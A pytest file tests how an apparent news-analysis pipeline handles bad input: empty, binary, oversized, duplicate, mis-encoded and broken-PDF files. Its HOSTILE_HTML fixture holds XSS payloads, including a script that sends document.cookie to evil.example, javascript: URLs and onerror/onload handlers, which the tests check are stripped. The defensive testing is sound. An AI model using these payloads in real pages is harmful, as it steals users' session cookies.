"""Bad input: a clear reason per file, the rest of the batch processed, never a traceback."""
from __future__ import annotations

import json
import subprocess
import sys

import pytest

from components.run.analyze import analyze
from components.ingest.articles import BadInput, article_from_bytes, assemble, decode_bytes, load_corpus

from .conftest import KNOWLEDGE, ROOT, SEEDS
from .pdfmaker import make_pdf

CP1252_TEXT = ("Ukraine\u2019s president said on Tuesday that Kyiv needed \u201cthe ability to strike back\u201d "
               "at the airfields from which Russian bombers launch glide bombs \u2014 a caf\u00e9 owner in "
               "Kharkiv agreed.\n")
RUSSIAN = ("Президент Украины Владимир Зеленский заявил, что Украине нужны ракеты большой дальности. "
           "«Мы не можем ждать», — сказал он журналистам в Киеве во вторник.")
GERMAN = ("Bundeskanzler Olaf Scholz lehnt die Lieferung von Taurus-Marschflugkörpern an die Ukraine weiterhin "
          "ab. „Das ist eine Frage der Verantwortung“, sagte er am Dienstag in Berlin.")
HOSTILE_HTML = b"""<!doctype html><html><head><title>Allies weigh missiles</title>
<script>document.write('INJECTED'); fetch('https://evil.example/steal?c=' + document.cookie)</script>
<style>body { background: url(javascript:alert(1)) }</style></head>
<body onload="alert('x')"><nav>Home | World</nav>
<article><h1>Allies weigh long-range missiles for Ukraine</h1>
<p>Britain has urged Washington to let Kyiv fire Storm Shadow missiles into Russia, officials said.</p>
<p><img src=x onerror="alert('img')"><a href="javascript:alert('link')">Read more</a></p>
<iframe src="https://evil.example/frame"></iframe>
<p>&lt;script&gt;alert('escaped')&lt;/script&gt; is how the attack was written.</p>
</article><script>alert('tail')</script></body></html>"""


def test_empty_and_blank_files_are_refused():
    for data in (b"", b"   \n\t\n"):
        with pytest.raises(BadInput, match="empty"):
            article_from_bytes(data, "empty.txt", knowledge=KNOWLEDGE)


def test_binary_files_are_refused():
    with pytest.raises(BadInput, match="binary"):
        article_from_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8, "photo.txt", knowledge=KNOWLEDGE)
    with pytest.raises(BadInput, match="binary"):
        article_from_bytes(bytes(b % 31 for b in range(4000)), "noise.txt", knowledge=KNOWLEDGE)  # control bytes, no NUL


def test_unsupported_types_are_named():
    with pytest.raises(BadInput, match=r"'\.docx' files are not supported"):
        article_from_bytes(b"PK\x03\x04 some zip", "memo.docx", knowledge=KNOWLEDGE)


def test_cp1252_text_reads_right():
    art = article_from_bytes(CP1252_TEXT.encode("cp1252"), "kharkiv.txt", knowledge=KNOWLEDGE)
    assert art.text == CP1252_TEXT
    assert "\u201cthe ability to strike back\u201d" in art.text  # bytes 0x93 / 0x94
    assert art.notes == ["decoded as cp1252"]


@pytest.mark.parametrize("text, encoding", [(RUSSIAN, "cp1251"), (GERMAN, "cp1252"), (GERMAN, "utf-16"),
                                            (GERMAN, "utf-16-le"), (GERMAN, "utf-16-be"), (RUSSIAN, "utf-8")])
def test_other_encodings_are_detected(text, encoding):
    decoded, _ = decode_bytes(text.encode(encoding))
    assert decoded == text


def test_html_gives_text_only_and_nothing_is_executed():
    art = article_from_bytes(HOSTILE_HTML, "allies.html", knowledge=KNOWLEDGE)
    assert art.title == "Allies weigh long-range missiles for Ukraine"
    assert "Storm Shadow missiles into Russia" in art.text
    for bad in ("INJECTED", "fetch(", "javascript", "onerror", "onload", "background", "evil.example", "Home | World"):
        assert bad not in art.text
    # an escaped tag in the prose stays prose
    assert "<script>alert('escaped')</script> is how the attack was written." in art.text


def test_markdown_loses_inline_html_and_links_keep_their_words():
    md = (b"# Kyiv asks for ATACMS\n\nThe request was <b>urgent</b>, said [Mr. Umerov](https://x.org/a_(b)).\n"
          b"<script>alert('md')</script>\n<iframe src='x'></iframe>\n")
    art = article_from_bytes(md, "note.md", knowledge=KNOWLEDGE)
    assert "The request was urgent, said Mr. Umerov." in art.text
    assert "alert" not in art.text and "<" not in art.text and "https" not in art.text


def test_deeply_nested_markup_does_not_crash(tmp_path):
    (tmp_path / "deep.html").write_bytes(b"<div>" * 50000 + b"<p>Deep text.</p>" + b"</div>" * 50000)
    (tmp_path / "ok.txt").write_text("Ukraine asked for ATACMS, officials said.", encoding="utf-8")
    articles, skipped = load_corpus([tmp_path], knowledge=KNOWLEDGE)
    assert "ok" in {a.id for a in articles}
    assert len(articles) + len(skipped) == 2


def test_files_over_the_size_limit_are_refused(tmp_path):
    (tmp_path / "big.txt").write_bytes(b"Ukraine asked for missiles. " * 2000)
    articles, skipped = load_corpus([tmp_path], max_bytes=10_000, knowledge=KNOWLEDGE)
    assert not articles and skipped[0].reason.startswith("the file is 0.1 MB, over the")
    with pytest.raises(BadInput, match="limit"):
        article_from_bytes(b"x" * 101, "big.txt", max_bytes=100, knowledge=KNOWLEDGE)


def test_duplicate_files_are_read_once(tmp_path):
    text = "Ukraine asked for ATACMS, officials said on Monday.\n".encode()
    (tmp_path / "a.txt").write_bytes(text)
    (tmp_path / "b.txt").write_bytes(text)
    articles, skipped = load_corpus([tmp_path], knowledge=KNOWLEDGE)
    assert [a.id for a in articles] == ["a"]
    assert skipped[0].path.endswith("b.txt") and skipped[0].reason == "same text as article a"


def test_assemble_gives_same_named_uploads_distinct_ids():
    a = article_from_bytes(b"Kyiv asked for ATACMS.", "note.txt", knowledge=KNOWLEDGE)
    b = article_from_bytes(b"Berlin refused Taurus.", "note.txt", knowledge=KNOWLEDGE)
    kept, skipped = assemble([a, b])
    assert [x.id for x in kept] == ["note", "note-2"] and not skipped


def test_pdf_text_is_read_with_paragraphs():
    pdf = make_pdf([["Allies weigh Storm Shadow decision", "",
                     "WASHINGTON \u2014 President Biden and Prime Minister Keir Starmer discussed on",
                     "Friday whether Ukraine may fire long-range missiles into Russia, officials",
                     "said, in a meeting at the White House that lasted an hour and a half.",
                     "\u201cI don\u2019t think much about Vladimir Putin,\u201d Biden told reporters."]],
                   title="Allies weigh Storm Shadow decision")
    art = article_from_bytes(pdf, "allies.pdf", knowledge=KNOWLEDGE)
    assert art.source_format == "pdf" and art.title == "Allies weigh Storm Shadow decision"
    assert "discussed on Friday whether Ukraine may fire long-range missiles into Russia, officials said," in art.text
    assert "\u201cI don\u2019t think much about Vladimir Putin,\u201d Biden told reporters." in art.text


@pytest.mark.parametrize("data, reason", [(b"%PDF-1.4\n garbage \x00\x01", "PDF"),
                                          (make_pdf([[]]), "no text layer")])
def test_broken_or_empty_pdfs_are_refused(data, reason):
    with pytest.raises(BadInput, match=reason):
        article_from_bytes(data, "broken.pdf", knowledge=KNOWLEDGE)


UNBALANCED = ("KYIV \u2014 \u201cWe need the missiles now, Defense Minister Rustem Umerov said on Tuesday, adding "
              "that Ukraine would use them only against military targets.\n"
              "Officials in Washington said a decision on ATACMS was expected within days.\n"
              "\u201cThis is about saving lives,\" a senior U.S. official said. \"The Storm Shadow decision is "
              "separate.\n")


def test_unbalanced_quotation_marks_are_still_analysed(nlp):
    art = article_from_bytes(UNBALANCED.encode("utf-8"), "umerov.txt", knowledge=KNOWLEDGE)
    result = analyze([art], nlp)
    assert result["articles"]["article_id"].tolist() == ["umerov"]
    assert {"ATACMS", "Storm Shadow"} <= set(result["weapon_mentions"]["system"])
    assert not result.skipped


def test_an_article_the_pipeline_fails_on_is_skipped_and_the_rest_analysed():
    import spacy
    from spacy.language import Language

    import components.nlp.stages.actors  # noqa: F401  (registers the doc extensions the tables read)

    @Language.component("explode_on_boom")
    def explode_on_boom(doc):
        if "BOOM" in doc.text:
            raise RuntimeError("stage failed")
        return doc

    nlp = spacy.blank("en")
    nlp.add_pipe("sentencizer")
    nlp.add_pipe("explode_on_boom")
    good = article_from_bytes(b"Kyiv asked for ATACMS on Monday.", "good.txt", knowledge=KNOWLEDGE)
    bad = article_from_bytes(b"This article says BOOM.", "bad.txt", knowledge=KNOWLEDGE)
    result = analyze([good, bad, good], nlp)
    assert result["articles"]["article_id"].tolist() == ["good", "good"]
    assert [s.path for s in result.skipped] == ["bad.txt"]
    assert "in explode_on_boom (RuntimeError: stage failed)" in result.skipped[0].reason


def test_a_stage_that_raises_is_reported_by_the_error_handler_not_left_empty(nlp, failing_pair):
    """A failing stage of the real pipeline goes through spaCy's error handler: its article is named
    in ``skipped`` with the stage and the reason (no article comes back silently without stances)."""
    good, bad = failing_pair
    result = analyze([good, bad], nlp)
    assert result["articles"]["article_id"].tolist() == ["good"]
    assert [(s.path, s.reason) for s in result.skipped] == [
        ("bad.txt", "the analysis failed on this article in debate_stance (ValueError: cannot read this)")]
    with pytest.raises(ValueError, match="cannot read this"):  # outside a batch of articles: raised
        nlp("Berlin said BOOM.")


def test_cli_names_each_bad_file_and_exits_zero(tmp_path):
    folder = tmp_path / "mixed"
    folder.mkdir()
    (folder / "empty.txt").write_bytes(b"")
    (folder / "binary.txt").write_bytes(bytes(range(256)) * 4)
    (folder / "huge.txt").write_bytes(b"Missiles. " * 200_000)
    (folder / "hostile.html").write_bytes(HOSTILE_HTML)
    (folder / "windows.txt").write_bytes(CP1252_TEXT.encode("cp1252"))
    (folder / "copy.txt").write_bytes(CP1252_TEXT.encode("cp1252"))
    (folder / "unbalanced.txt").write_text(UNBALANCED, encoding="utf-8")
    (folder / "broken.pdf").write_bytes(b"%PDF-1.7 nothing else")
    out = tmp_path / "out.json"
    proc = subprocess.run([sys.executable, "-m", "components.cli", "analyze", str(folder), str(tmp_path / "missing.txt"),
                           "--json", str(out), "--max-mb", "1", "--no-store"],
                          capture_output=True, text=True, cwd=ROOT)
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr
    for name, why in [("empty.txt", "empty"), ("binary.txt", "binary"), ("huge.txt", "limit"),
                      ("windows.txt", "same text as article copy"), ("broken.pdf", "PDF"),
                      ("missing.txt", "no such file")]:
        line = next((l for l in proc.stderr.splitlines() if name in l), "")
        assert line.startswith("skipped") and why in line, (name, proc.stderr)
    ids = {a["id"] for a in json.loads(out.read_text())["articles"]}
    assert ids == {"hostile", "copy", "unbalanced"}
    assert len(proc.stderr.splitlines()) <= 9  # the skipped lines, the progress bar and the summary


def test_cli_exits_nonzero_without_a_readable_article(tmp_path):
    (tmp_path / "empty.txt").write_bytes(b"")
    proc = subprocess.run([sys.executable, "-m", "components.cli", "analyze", str(tmp_path), "--no-store"],
                          capture_output=True, text=True, cwd=ROOT)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    assert "empty.txt: the file is empty" in proc.stderr


def test_seeds_still_read_cleanly():
    articles, skipped = load_corpus([SEEDS], knowledge=KNOWLEDGE)
    assert len(articles) == 5 and not skipped
